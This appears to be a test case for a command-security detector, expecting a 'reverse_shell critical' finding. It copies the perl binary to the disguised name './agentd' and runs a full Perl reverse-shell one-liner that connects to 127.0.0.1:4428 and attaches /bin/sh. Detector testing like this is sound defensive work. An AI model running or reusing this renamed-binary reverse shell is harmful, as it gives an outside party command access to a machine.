# about: perl under another name
# expect: reverse_shell critical
# needs: python3 perl
peer 4428
cp "$(command -v perl)" ./agentd
./agentd -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4428,inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");exec("/bin/sh");' || true
done_typing
